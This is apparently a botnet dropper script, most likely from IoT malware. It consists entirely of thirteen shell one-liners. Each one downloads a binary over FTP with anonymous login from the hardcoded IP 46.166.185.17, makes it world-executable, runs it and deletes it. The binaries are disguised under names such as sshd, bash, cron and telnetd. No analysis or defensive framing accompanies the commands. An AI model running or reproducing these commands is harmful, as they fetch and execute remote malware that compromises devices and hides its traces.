cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 ntpd ntpd; chmod 777 ntpd ./ntpd; rm -rf ntpd
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 sshd sshd; chmod 777 sshd ./sshd; rm -rf sshd
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 openssh openssh; chmod 777 openssh ./openssh; rm -rf openssh
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 bash bash; chmod 777 bash ./bash; rm -rf bash
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 tftp tftp; chmod 777 tftp ./tftp; rm -rf tftp
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 wget wget; chmod 777 wget ./wget; rm -rf wget
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 cron cron; chmod 777 cron ./cron; rm -rf cron
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 ftp ftp; chmod 777 ftp ./ftp; rm -rf ftp
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 pftp pftp; chmod 777 pftp ./pftp; rm -rf pftp
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 sh sh; chmod 777 sh ./sh; rm -rf sh
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 ' ' ' '; chmod 777 ' ' ./' '; rm -rf ' '
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 apache2 apache2; chmod 777 apache2 ./apache2; rm -rf apache2
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ftpget -v -u anonymous -p anonymous -P 21 46.166.185.17 telnetd telnetd; chmod 777 telnetd ./telnetd; rm -rf telnetd
